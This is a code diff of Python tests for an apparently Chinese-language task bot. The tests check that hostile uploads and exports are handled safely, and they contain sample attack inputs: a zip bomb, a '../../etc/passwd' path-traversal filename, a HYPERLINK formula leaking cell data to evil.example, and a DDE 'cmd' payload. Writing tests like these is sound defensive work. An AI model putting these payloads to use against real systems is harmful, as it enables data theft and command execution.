@@ -9,25 +9,15 @@ import zipfile
 import zlib
 from pathlib import Path
 
-import openpyxl
-
 from bot.domain.lifecycle import Role
-from sandbox.phones import Phone
-from tests.harness import Duban
+from tests.harness import Duban, last_workbook, office
+from tests.sheets import XLSX, xlsx
 
-XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 WAIT = 20
 
 
 def workbook(rows: list[list[object]]) -> bytes:
-    book = openpyxl.Workbook()
-    sheet = book.active
-    sheet.append(["序号", "问题清单", "措施清单", "承办单位", "办理时限"])
-    for row in rows:
-        sheet.append(row)
-    data = io.BytesIO()
-    book.save(data)
-    return data.getvalue()
+    return xlsx(["序号", "问题清单", "措施清单", "承办单位", "办理时限"], rows)
 
 
 def zip_bomb() -> bytes:
@@ -67,17 +57,10 @@ def written_outside(root: Path, media: Path) -> list[Path]:
     ]
 
 
-async def admin_phone(duban: Duban) -> Phone:
-    admin = duban.admin()
-    await admin.send("/help")
-    await admin.expect("可用命令")
-    return admin
-
-
 async def test_hostile_sheets_are_refused_with_a_reason(duban: Duban) -> None:
     """A zip bomb named .xlsx, a truncated workbook, an unreadable CSV and a file over 20 MB
     are each refused with a message that names the file and the reason; no item is made."""
-    admin = await admin_phone(duban)
+    admin = await office(duban)
     good = workbook([[1, "研发投入偏低", "加大投入", "科技局", "2031-12-31"]])
     cases = [
         (zip_bomb(), "任务表.xlsx", XLSX, "zip bomb"),
@@ -104,7 +87,7 @@ async def test_hostile_sheets_are_refused_with_a_reason(duban: Duban) -> None:
 async def test_file_names_cannot_escape_media_dir(duban: Duban, tmp_path: Path) -> None:
     """A sheet named ../../etc/passwd.xlsx or a/b.csv is stored under MEDIA_DIR with a safe
     name and previewed as usual; nothing is written anywhere else."""
-    admin = await admin_phone(duban)
+    admin = await office(duban)
     sheet = workbook([[1, "研发投入偏低", "加大投入", "科技局", "2031-12-31"]])
     await admin.send_document(sheet, "../../etc/passwd.xlsx", XLSX)
     await admin.expect("导入预览", within=WAIT)
@@ -126,7 +109,7 @@ async def test_formula_in_a_cell_comes_back_as_text(duban: Duban) -> None:
     hostile = '=HYPERLINK("http://evil.example/?"&A1,"点我查看")'
     duban.seed_task(hostile, "科技局")
     duban.seed_task("+cmd|' /C calc'!A0", "科技局")
-    admin = await admin_phone(duban)
+    admin = await office(duban)
     await admin.send("/export")
     await admin.expect("导出督办台账")
     await admin.tap("全部事项")
@@ -134,8 +117,7 @@ async def test_formula_in_a_cell_comes_back_as_text(duban: Duban) -> None:
     await admin.tap("📗 Excel 表格")
     await admin.expect("已导出 2 项", within=WAIT)
     await duban.settle(WAIT)
-    document = next(m for m in reversed(admin.bot_messages) if m.document)
-    book = openpyxl.load_workbook(io.BytesIO(admin.download(document.document["file_id"])))
+    book = last_workbook(admin)
     cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
     formulas = [c.coordinate for c in cells if c.data_type == "f"]
     assert formulas == []
